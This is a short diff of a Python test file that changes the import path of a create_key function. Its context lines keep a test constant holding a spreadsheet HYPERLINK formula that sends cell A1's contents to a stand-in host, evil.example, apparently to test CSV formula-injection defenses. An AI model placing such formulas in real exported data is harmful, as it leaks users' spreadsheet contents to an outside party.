@@ -10,7 +10,7 @@ import pytest
 from django.test import Client
 
 from console.api.csvcells import text_cell
-from ledger.tenancy import create_key
+from ledger.tenancy.services import create_key
 from tests.conftest import ev, started
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
